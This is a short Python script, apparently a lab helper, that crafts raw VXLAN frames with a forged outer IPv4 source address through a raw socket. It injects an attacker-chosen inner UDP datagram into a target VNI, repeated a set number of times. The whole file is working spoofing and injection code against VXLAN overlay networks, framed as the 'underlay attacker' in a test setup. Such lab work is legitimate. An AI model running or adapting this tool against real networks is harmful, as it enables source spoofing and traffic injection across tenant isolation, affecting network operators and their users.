"""Sends COUNT raw VXLAN frames (an IPv4/UDP datagram inside) to DST:PORT with VNI, from a
forged outer source SRC (raw socket, IP_HDRINCL). Lab helper playing the underlay attacker.

usage: vxlan_inject.py SRC DST PORT VNI INNER_DST_MAC INNER_SRC INNER_DST INNER_PORT COUNT
"""
import socket
import struct
import sys


def csum(b: bytes) -> int:
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ipv4(src: str, dst: str, proto: int, payload: bytes) -> bytes:
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def udp(sport: int, dport: int, payload: bytes) -> bytes:
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


src, dst, port, vni, mac, isrc, idst, iport, count = sys.argv[1:10]
inner_ip = ipv4(isrc, idst, 17, udp(40000, int(iport), b"injected"))
eth = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000099") + b"\x08\x00" + inner_ip
vxlan = struct.pack("!II", 0x08000000, int(vni) << 8) + eth
packet = ipv4(src, dst, 17, udp(40001, int(port), vxlan))
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for _ in range(int(count)):
    s.sendto(packet, (dst, 0))
print("sent", count, flush=True)
